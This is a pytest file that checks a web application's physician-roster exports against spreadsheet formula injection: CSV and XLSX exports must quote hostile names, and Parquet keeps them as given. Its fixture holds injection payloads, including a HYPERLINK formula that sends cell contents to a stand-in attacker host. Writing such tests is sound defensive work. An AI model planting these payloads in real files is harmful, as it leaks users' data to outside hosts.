"""A table's CSV and XLSX exports cannot attack their reader: a physician name a CML
imported as a formula is exported with a leading quote, as text; the stored version and
the Parquet export keep it as it was given (``panelcare.exports``, docs/tables.md)."""

from __future__ import annotations

import csv
import io

import openpyxl
import pyarrow as pa
import pyarrow.compute as pc
import pyarrow.csv as pacsv
import pyarrow.parquet as pq
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from web.regions.testing import import_roster_with_names
from web.tables.kinds import DatasetKind
from web.tables.models import Dataset, ImportJob, ImportStatus
from web.tables.store import read_dataset
from web.tables.tests.conftest import login

pytestmark = pytest.mark.django_db

NAMES = [
    '=HYPERLINK("http://evil.example/"&A1,"x")',
    "@SUM(1+1)",
    "\tDr Tab",
]


def roster_as_text(region) -> pa.Table:
    """The current roster, every cell as the text a CSV holds."""
    table = read_dataset(Dataset.current(region, DatasetKind.PHYSICIANS))
    return pa.table({name: pc.cast(table.column(name), pa.string()) for name in table.column_names})


def upload(client, table: pa.Table | bytes, name: str) -> ImportJob:
    if isinstance(table, pa.Table):
        sink = io.BytesIO()
        pacsv.write_csv(table, sink)
        table = sink.getvalue()
    file = SimpleUploadedFile(name, table)
    client.post(reverse("tables:imports"), {"kind": DatasetKind.PHYSICIANS, "file": file})
    return ImportJob.objects.order_by("-pk").first()


@pytest.fixture
def hostile(client, region) -> dict[str, str]:
    """The roster imported through the web by the DRMG with three hostile names:
    {physician_id: name as given}."""
    login(client, "drmg")
    ids = import_roster_with_names(client, region, NAMES)
    return dict(zip(ids, NAMES, strict=True))


def export(client, region, fmt: str) -> bytes:
    dataset = Dataset.current(region, DatasetKind.PHYSICIANS)
    response = client.get(reverse("tables:dataset-export", args=[dataset.pk, fmt]))
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_it_stores_the_names_as_they_were_given(region, hostile):
    stored = read_dataset(Dataset.current(region, DatasetKind.PHYSICIANS)).to_pylist()
    assert {
        row["physician_id"]: row["name"] for row in stored if row["physician_id"] in hostile
    } == (hostile)


def test_it_exports_a_formula_as_quoted_text_in_csv(client, region, hostile):
    rows = list(csv.DictReader(io.StringIO(export(client, region, "csv").decode("utf-8"))))
    names = {row["physician_id"]: row["name"] for row in rows}
    assert {code: names[code] for code in hostile} == {
        code: "'" + name for code, name in hostile.items()
    }
    # The other names, and the numbers (negative longitudes too), as they are.
    stored = read_dataset(Dataset.current(region, DatasetKind.PHYSICIANS)).to_pylist()
    for physician in stored:
        row = next(row for row in rows if row["physician_id"] == physician["physician_id"])
        if physician["physician_id"] not in hostile:
            assert row["name"] == physician["name"]
        assert float(row["longitude"]) == physician["longitude"] < 0


def test_it_exports_a_formula_as_a_quoted_string_cell_in_xlsx(client, region, hostile):
    book = openpyxl.load_workbook(io.BytesIO(export(client, region, "xlsx")))
    sheet = book.active
    header = [cell.value for cell in next(sheet.iter_rows(max_row=1))]
    cells = [dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)]
    assert not [cell for row in cells for cell in row.values() if cell.data_type == "f"]
    names = {row["physician_id"].value: row["name"] for row in cells}
    for code, name in hostile.items():
        assert names[code].data_type == "s"
        assert names[code].value == "'" + name
    # A negative number stays a number.
    assert {row["longitude"].data_type for row in cells} == {"n"}
    assert all(row["longitude"].value < 0 for row in cells)


def test_it_keeps_the_names_as_given_in_the_parquet_export(client, region, hostile):
    exported = pq.read_table(io.BytesIO(export(client, region, "parquet")))
    names = dict(
        zip(*(exported.column(c).to_pylist() for c in ("physician_id", "name")), strict=True)
    )
    assert {code: names[code] for code in hostile} == hostile
    # Parquet is the lossless way back: its re-import changes nothing.
    assert upload(client, export(client, region, "parquet"), "roster.parquet").status == (
        ImportStatus.UNCHANGED
    )


def test_it_keeps_the_quote_when_its_csv_export_comes_back(client, region, hostile):
    # An import keeps every value as it is given (docs/decisions.md): the neutralised
    # CSV export, imported again, would store the names with their quote, and the
    # preview says so before anything is written.
    job = upload(client, export(client, region, "csv"), "roster.csv")
    assert job.status == ImportStatus.READY
    assert (job.preview["changed"], job.preview["changed_columns"]) == (
        len(hostile),
        {"name": len(hostile)},
    )
